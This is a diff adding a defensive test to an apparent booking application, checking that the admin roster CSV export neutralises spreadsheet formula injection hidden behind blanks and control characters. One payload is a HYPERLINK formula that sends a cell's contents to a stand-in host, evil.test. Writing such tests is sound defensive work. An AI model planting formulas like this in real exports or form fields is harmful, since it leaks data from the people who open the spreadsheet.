@@ -96,3 +96,29 @@ def test_thirty_joins_at_once_put_an_address_in_line_once(api, outbox_dir, froze
     assert active == 1
     assert len([m for m in read_outbox(outbox_dir) if m.kind == "waiting_list_joined"]) <= 3
     assert _join(api, retreat, 1, "lea@example.test").status == 201  # and joining again still answers the same
+
+
+def test_the_roster_neutralises_formulas_behind_blanks_and_control_characters(make_client, frozen_clock):
+    """A cell starting with =, +, -, @ is prefixed with '; the booking's notes are not trimmed,
+    so ' =HYPERLINK(…)' or '\\n=…' reached the roster as is. LibreOffice's CSV import offers
+    'Trim spaces' (on by many), and a line break inside a quoted cell is dropped by some
+    importers: the formula then runs on the organiser's machine."""
+    import csv
+    import io
+
+    from tests.support.accounts import admin_session
+
+    admin, _ = admin_session(make_client)
+    retreat = insert_retreat(places=10)
+    payloads = [' =HYPERLINK("http://evil.test/?"&B2,"Voir")', "\n=1+1", "\u00a0@SUM(1)", "\x0b-2+3", "\t \r=1"]
+    for i, notes in enumerate(payloads):
+        guest = make_client(source_ip=f"192.0.2.{10 + i}")
+        response = guest.post("/bookings", json=booking_body(retreat, 1, notes=notes))
+        assert response.status == 201, response.body
+    roster = admin.get(f"/bookings/admin/roster/{retreat['_id']}/{retreat['dates'][0]['_id']}")
+    assert roster.status == 200
+    rows = list(csv.DictReader(io.StringIO(roster.body.lstrip("\ufeff")), delimiter=";"))
+    notes_cells = [row["Notes"] for row in rows]
+    assert len(notes_cells) == len(payloads)
+    for cell in notes_cells:
+        assert cell.startswith("'"), repr(cell)
